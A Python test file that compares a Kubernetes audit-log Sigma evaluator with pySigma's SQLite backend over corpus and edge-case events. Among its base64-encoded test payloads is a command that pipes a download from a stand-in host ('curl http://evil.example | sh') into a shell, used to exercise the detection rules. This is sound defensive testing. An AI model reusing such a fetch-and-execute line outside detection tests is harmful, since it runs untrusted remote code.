"""kubehawk's Sigma evaluator against an independent one: pySigma's SQLite backend.

The corpus events (../shared/corpus: real captures, Falco's and Panther's fixtures) and a set of
edge-case events are flattened into a SQLite table the way Zircolite does it (nested keys joined
with dots, one column each, ``COLLATE NOCASE``, values kept with their JSON type, booleans as
``'true'``/``'false'``, the event's JSON as the keyword text). Each rule of a set covering every
modifier is converted by the backend to SQL and run; kubehawk runs the same rule on the same
events. Every disagreement must be explained by one of the dialect choices in :data:`DIALECT`
(each a reason and a test of whether it applies); any other fails the test.

Flattening cannot hold a list with several values in one column: a rule is not compared on an
event where a field it reads holds one (counted, and bounded below). Rules are compared by their
predicates, on every event: that RequestReceived never alerts is the engine's choice, not the
evaluator's (tests/rules/test_dialect.py). About 210,000 comparisons, a few seconds.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import re
import sqlite3
import zlib
from collections import Counter
from typing import Any

import pytest

from kubehawk.event import EventDecodeError, event_from_dict
from kubehawk.rules import RuleSet

from helpers import REPO

sqlite_backend = pytest.importorskip("sigma.backends.sqlite", reason="pysigma-backend-sqlite (dev extra) not installed")

CORPUS = REPO.parent / "shared" / "corpus"
VARS = {"sysns": ["kube-system", "KUBE-PUBLIC"]}
B64 = base64.b64encode(b"xx curl http://evil.example | sh").decode()
WIDE = base64.b64encode("x curl http://evil.example".encode("utf-16le")).decode()
UTF16 = base64.b64encode("http://evil.example".encode("utf-16")).decode()  # BOM first, as |utf16 writes it

# name -> detection (each its own rule); together they use every modifier kubehawk supports
RULES: dict[str, str] = {
    "eq-case": "sel: {verb: CREATE}\ncondition: sel",
    "eq-list": "sel: {objectRef.resource: [pods, SECRETS, configmaps]}\ncondition: sel",
    "qmark-capital": "sel: {verb: 'CR?ATE'}\ncondition: sel",
    "inner-star-capital": "sel: {user.username: 'System:ServiceAccount:*:*'}\ncondition: sel",
    "star-only": "sel: {objectRef.subresource: '*'}\ncondition: sel",
    "escaped-star": "sel: {userAgent|contains: '\\*'}\ncondition: sel",
    "contains": "sel: {requestURI|contains: '/NameSpaces/'}\ncondition: sel",
    "contains-qmark": "sel: {requestURI|contains: 'api/v?/'}\ncondition: sel",
    "startswith": "sel: {userAgent|startswith: 'KUBECTL/'}\ncondition: sel",
    "startswith-unicode": "sel: {userAgent|startswith: 'ÄRGER'}\ncondition: sel",
    "endswith": "sel: {requestURI|endswith: '/STATUS'}\ncondition: sel",
    "contains-all": "sel: {requestURI|contains|all: ['watch=true', 'resourceVersion']}\ncondition: sel",
    "startswith-cased": "sel: {userAgent|startswith|cased: 'kubectl/'}\ncondition: sel",
    "cased-miss": "sel: {userAgent|startswith|cased: 'Kubectl/'}\ncondition: sel",
    "re": "sel: {user.username|re: '^system:serviceaccount:[a-z-]+:'}\ncondition: sel",
    "re-i": "sel: {userAgent|re|i: '^KUBE-(CONTROLLER|SCHEDULER)'}\ncondition: sel",
    "re-s": "sel: {userAgent|re|s: 'kubectl.*LINUX'}\ncondition: sel",
    "re-m": "sel: {requestURI|re|m: '^/api$'}\ncondition: sel",
    "cidr": "sel: {sourceIPs|cidr: ['192.168.0.0/16', '10.0.0.0/8', '::1/128']}\ncondition: sel",
    "exists-true": "sel: {objectRef.subresource|exists: true}\ncondition: sel",
    "exists-false": "sel: {objectRef.namespace|exists: false}\ncondition: sel",
    "null": "sel: {objectRef.name: null}\ncondition: sel",
    "expand": "sel: {objectRef.namespace|expand: '%sysns%'}\ncondition: sel",
    "number": "sel: {responseStatus.code: 201}\ncondition: sel",
    "number-quoted": "sel: {responseStatus.code: '404'}\ncondition: sel",
    "gt": "sel: {responseStatus.code|gt: 200}\ncondition: sel",
    "gte": "sel: {responseStatus.code|gte: 400}\ncondition: sel",
    "lt": "sel: {responseStatus.code|lt: 300}\ncondition: sel",
    "lte": "sel: {responseStatus.code|lte: 201}\ncondition: sel",
    "neq": "sel: {verb|neq: get, objectRef.resource: pods}\ncondition: sel",
    "bool": "sel: {requestObject.spec.hostNetwork: true}\ncondition: sel",
    "bool-false": "sel: {requestObject.spec.containers.securityContext.privileged: false}\ncondition: sel",
    "base64": "sel: {requestObject.data.token|base64: 'hunter2'}\ncondition: sel",
    "base64offset": "sel: {requestURI|base64offset|contains: 'http://evil'}\ncondition: sel",
    "wide-base64offset": "sel: {requestURI|wide|base64offset|contains: 'http://evil'}\ncondition: sel",
    "utf16-base64offset": "sel: {requestURI|utf16|base64offset|contains: 'http://evil'}\ncondition: sel",
    "startswith-all": "sel: {userAgent|startswith|all: ['kube', 'KUBECTL/']}\ncondition: sel",
    "windash": "sel: {userAgent|windash|contains: ' -v'}\ncondition: sel",
    "fieldref": "sel: {objectRef.namespace|fieldref: objectRef.name}\ncondition: sel",
    "fieldref-startswith": "sel: {objectRef.name|fieldref|startswith: objectRef.namespace}\ncondition: sel",
    "fieldref-endswith": "sel: {user.username|fieldref|endswith: objectRef.namespace}\ncondition: sel",
    "hour": "sel: {stageTimestamp|hour: 14}\ncondition: sel",
    "minute": "sel: {requestReceivedTimestamp|minute: 42}\ncondition: sel",
    "day": "sel: {stageTimestamp|day: 12}\ncondition: sel",
    "week": "sel: {stageTimestamp|week: 41}\ncondition: sel",
    "month": "sel: {stageTimestamp|month: 10}\ncondition: sel",
    "year": "sel: {stageTimestamp|year: 2025}\ncondition: sel",
    "annotation": "sel: {annotations.authorization.k8s.io/decision: FORBID}\ncondition: sel",
    "body-kind": "sel: {requestObject.kind: pod, requestObject.metadata.name|startswith: nginx}\ncondition: sel",
    "keyword": "kw: ['kube-proxy', 'EVIL*Pod', 'Deployment']\ncondition: kw",
    "not": "sel: {verb: [create, update]}\nfilter: {user.username|startswith: 'system:'}\ncondition: sel and not filter",
    "one-of": "sel_a: {objectRef.resource: secrets}\nsel_b: {objectRef.subresource: exec}\ncondition: 1 of sel_*",
    "all-of": "sel_a: {verb: list}\nsel_b: {objectRef.resource: pods}\ncondition: all of sel_*",
}

# Events a real log rarely holds, for the points where the dialects could differ.
EDGE: list[dict[str, Any]] = [
    {"verb": "create", "user": {"username": "System:ServiceAccount:Kube-System:Default"}},
    {"verb": "get", "objectRef": {"resource": "pods", "subresource": None, "namespace": None, "name": None}},
    {"verb": "get", "objectRef": {"resource": "pods", "subresource": "", "name": ""}},
    {"verb": "get", "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "dev",
                                  "name": "dev-tools"}},
    {"verb": "get", "objectRef": {"resource": "namespaces", "namespace": "team", "name": "TEAM"}},
    {"verb": "get", "user": {"username": "alice@team"}, "objectRef": {"resource": "pods", "namespace": "TEAM"}},
    {"verb": "list", "objectRef": {"resource": "pods", "namespace": "kube-public"}},
    *[{"verb": "get", "responseStatus": {"code": c}} for c in
      ("201", "404", " 404 ", "0404", "404.0", "4.04e2", "n/a", 201.0, 404, True, None)],
    {"verb": "create", "requestObject": {"kind": "Pod", "metadata": {"name": "nginx-1"},
                                         "spec": {"hostNetwork": "True", "containers": [
                                             {"name": "a", "securityContext": {"privileged": False}}]}}},
    {"verb": "create", "requestObject": {"kind": "POD", "metadata": {"name": "NGINX-2"},
                                         "spec": {"hostNetwork": True}}},
    {"verb": "create", "requestObject": {"kind": "Secret", "data": {"token": base64.b64encode(b"hunter2").decode()}}},
    {"verb": "get", "requestURI": f"/api/v1/x?payload={B64}"},
    {"verb": "get", "requestURI": f"/api/v1/x?payload={WIDE}"},
    {"verb": "get", "requestURI": f"/api/v1/x?payload={UTF16}"},
    {"verb": "get", "requestURI": "/API", "userAgent": "curl/8 *star* -v"},
    {"verb": "get", "requestURI": "/apis\n/api", "userAgent": "kubectl/1.30\n(LINUX)"},
    {"verb": "get", "userAgent": "Kubectl/1.30 (linux)", "sourceIPs": ["10.1.2.3"]},
    {"verb": "get", "sourceIPs": ["10.example.com"]},
    {"verb": "get", "sourceIPs": ["192.168.001.002"]},
    {"verb": "get", "stageTimestamp": "2025-10-12T14:42:41+02:00", "requestReceivedTimestamp": "2025-10-12 14:42"},
    {"verb": "get", "stageTimestamp": "yesterday"},
    {"verb": "get", "userAgent": "EVIL-pod-maker"},
    {"verb": "get", "annotations": {"authorization.k8s.io/decision": "Forbid"}},
    {"verb": "get", "userAgent": "\u0130stanbul-client"},  # İ: lower-cases to two characters
    {"verb": "get", "userAgent": "ärger-client"},
]

# name -> (why the two implementations answer differently, when it applies: (rule, event) -> bool)
DIALECT: dict[str, tuple[str, Any]] = {
    "number-vs-string": (
        "A numeric rule value matches a string written as a JSON number ('403', '4.03e2'); SQLite "
        "compares the stored TEXT with an INTEGER by type (never equal; a TEXT sorts above every "
        "number, so any string passes gt/gte). A JSON float equal to the integer matches in both.",
        lambda rule, ev: rule in ("number", "number-quoted", "gt", "gte", "lt", "lte")
        and isinstance(_get(ev, "responseStatus.code"), (str, bool))),
    "number-quoted": (
        "A quoted number in the rule ('404') is a string; kubehawk compares it with the number's "
        "text (404 -> '404'); SQLite compares TEXT '404' with INTEGER 404 by type.",
        lambda rule, ev: rule == "number-quoted" and isinstance(_get(ev, "responseStatus.code"), (int, float))),
    "exists-null-or-empty": (
        "|exists tests presence whatever the value (the Sigma spec): a field written as null, [] "
        "or {} exists; flattened, it is a NULL column.",
        lambda rule, ev: rule.startswith("exists") and _written_empty(ev, RULE_FIELDS[rule][0])),
    "unicode-case": (
        "kubehawk folds case by Unicode; SQLite's NOCASE and LIKE fold ASCII letters only.",
        lambda rule, ev: any(not str(_get(ev, f)).isascii() for f in RULE_FIELDS[rule] if _get(ev, f) is not None)
        or (rule.startswith("keyword") and not json.dumps(ev, ensure_ascii=False).isascii())),
    "cidr-by-prefix": (
        "The backend writes |cidr as a LIKE on the address's text prefix ('10.%'), which also "
        "takes a host name or a non-canonical address; kubehawk parses the address.",
        lambda rule, ev: rule == "cidr" and not _is_ip(_get(ev, "sourceIPs"))),
    "iso-week": (
        "|week is the ISO 8601 week (1-53, the week holding the year's first Thursday is 1); the "
        "backend reads SQLite's %W (00-53, counted from the year's first Monday), often one less.",
        lambda rule, ev: rule == "week"),
    "timestamp-parse": (
        "Timestamp parts: kubehawk reads the timestamp with Python's ISO 8601 parser, in its own "
        "offset; SQLite's strftime converts an offset to UTC and reads a few other forms.",
        lambda rule, ev: rule in ("hour", "minute", "day", "month", "year")
        and not re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z",
                             str(_get(ev, RULE_FIELDS[rule][0])))),
}

RULE_FIELDS: dict[str, list[str]] = {}


def _get(ev: dict, path: str) -> Any:
    """The value at a dotted path, by plain keys (annotations keep their dotted names)."""
    if path.startswith("annotations."):
        return (ev.get("annotations") or {}).get(path[len("annotations."):])
    v: Any = ev
    for p in path.split("."):
        if not isinstance(v, dict):
            return None
        v = v.get(p)
    return v


def _written_empty(ev: dict, path: str) -> bool:
    parts = path.split(".")
    parent = _get(ev, ".".join(parts[:-1])) if len(parts) > 1 else ev
    return isinstance(parent, dict) and parts[-1] in parent and parent[parts[-1]] in (None, [], {})


def _is_ip(v: Any) -> bool:
    vals = v if isinstance(v, list) else [v]
    try:
        for x in vals:
            ipaddress.ip_address(x)
        return True
    except (ValueError, TypeError):
        return False


# --- flattening ------------------------------------------------------------------------------


class _Multi:
    """A column that would need several values for one event (a list of two or more)."""


MULTI = _Multi()


def _flatten(value: Any, prefix: str, out: dict[str, Any]) -> None:
    if isinstance(value, dict):
        for k, v in value.items():
            _flatten(v, f"{prefix}.{k}" if prefix else k, out)
        return
    if isinstance(value, list):
        if len(value) == 1:
            _flatten(value[0], prefix, out)
        elif len(value) > 1:
            for x in value:
                sub: dict[str, Any] = {}
                _flatten(x, prefix, sub)
                for k in sub:
                    out[k] = MULTI
        return
    if prefix in out:
        out[prefix] = MULTI
        return
    out[prefix] = ("true" if value else "false") if isinstance(value, bool) else value


def _events() -> list[dict]:
    out: list[dict] = []
    for path in sorted((CORPUS / "external-captures").rglob("*")):
        if path.suffix in (".log", ".jsonl") and path.is_file():
            out += [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    for path in sorted((CORPUS / "falco").rglob("*.json")):
        for line in path.read_text().splitlines():
            try:
                out.append(json.loads(line))
            except ValueError:
                continue  # the deliberately malformed fixture
    cases = CORPUS / "panther" / "cases.jsonl"
    if cases.is_file():
        out += [json.loads(line)["event"] for line in cases.read_text().splitlines() if line.strip()]
    events = [e for e in out if isinstance(e, dict) and e.get("kind", "Event") == "Event"]
    base = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "stage": "ResponseComplete",
            "requestURI": "/api/v1/x", "stageTimestamp": "2025-10-12T14:42:41.448711Z"}
    return events + [{**base, "auditID": f"edge-{i}", **e} for i, e in enumerate(EDGE)]


# --- the two evaluators ------------------------------------------------------------------------


def _rule_text(name: str, detection: str) -> str:
    body = "\n".join("  " + line for line in detection.splitlines())
    return (f"title: '{name}'\nid: 00000000-0000-4000-8000-{zlib.crc32(name.encode()):012d}\nstatus: test\n"
            f"logsource: {{product: kubernetes, service: audit}}\ndetection:\n{body}\n")


def _sql(backend: Any, text: str) -> str:
    from sigma.collection import SigmaCollection

    (query,) = backend.convert(SigmaCollection.from_yaml(text))
    return query.replace("SELECT * FROM logs", "SELECT rowid FROM logs", 1)


def _regexp(pattern: str, value: Any) -> int:
    if value is None:
        return 0
    return int(re.search(pattern, value if isinstance(value, str) else str(value)) is not None)


@pytest.fixture(scope="module")
def corpus_events() -> list[dict]:
    if not (CORPUS / "external-captures").is_dir():
        pytest.skip(f"third-party corpus not found at {CORPUS}")
    return _events()


def test_kubehawk_agrees_with_pysigma_sqlite_but_for_documented_dialect_choices(corpus_events):
    from sigma.processing.pipeline import ProcessingItem, ProcessingPipeline
    from sigma.processing.transformations import ValueListPlaceholderTransformation

    texts = {name: _rule_text(name, d) for name, d in RULES.items()}
    rs = RuleSet.from_texts([(f"{n}.yml", t) for n, t in texts.items()], variables=VARS)
    assert len(rs.rules) == len(RULES) and not rs.errors
    for rule in rs.rules:
        RULE_FIELDS[rule.title] = sorted(rule.fields)

    # kubehawk: the events as its decoder takes them (the others are bad records for it too)
    kept: list[tuple[dict, Any]] = []
    for d in corpus_events:
        try:
            kept.append((d, event_from_dict(d, origin="corpus")))
        except EventDecodeError:
            continue
    assert len(kept) > 4000

    # SQLite: the events flattened, Zircolite-style
    rows = []
    for d, _ in kept:
        flat: dict[str, Any] = {}
        _flatten(d, "", flat)
        flat["fulltext"] = json.dumps(d, ensure_ascii=False, separators=(",", ":"))
        rows.append(flat)
    columns = sorted({k for r in rows for k in r})
    db = sqlite3.connect(":memory:")
    db.create_function("REGEXP", 2, _regexp, deterministic=True)
    q = [f"`{c.replace('`', '``')}`" for c in columns]
    db.execute(f"CREATE TABLE logs ({', '.join(c + ' COLLATE NOCASE' for c in q)})")
    db.executemany(f"INSERT INTO logs VALUES ({', '.join('?' * len(columns))})",
                   [[None if r.get(c) is MULTI else r.get(c) for c in columns] for r in rows])

    pipeline = ProcessingPipeline([ProcessingItem(ValueListPlaceholderTransformation())], vars=VARS)
    backend = sqlite_backend.sqliteBackend(pipeline, fulltext_field="fulltext")

    explained: Counter[str] = Counter()
    hits: Counter[str] = Counter()
    skipped = compared = 0
    unexplained: list[str] = []
    for rule in rs.rules:
        name = rule.title
        sql_hits = {rowid - 1 for (rowid,) in db.execute(_sql(backend, texts[name]))}
        for i, ((d, event), flat) in enumerate(zip(kept, rows, strict=True)):
            if any(flat.get(f) is MULTI for f in RULE_FIELDS[name]):
                skipped += 1
                continue
            compared += 1
            mine = bool(rule.predicate(event))
            theirs = i in sql_hits
            hits[name] += mine
            if mine == theirs:
                continue
            why = next((k for k, (_, applies) in DIALECT.items() if applies(name, d)), None)
            if why is None:
                unexplained.append(f"{name}: kubehawk {mine}, sqlite {theirs}: {json.dumps(d)[:300]}")
            else:
                explained[why] += 1
    assert not unexplained, f"{len(unexplained)} unexplained disagreements:\n" + "\n".join(unexplained[:20])
    assert compared > 150_000 and skipped < compared / 5, (compared, skipped)
    assert not [n for n in RULES if not hits[n]], "a rule that never fires compares nothing"
    # the edge events do reach the documented choices: the list is not dead text
    assert set(explained) == set(DIALECT), explained
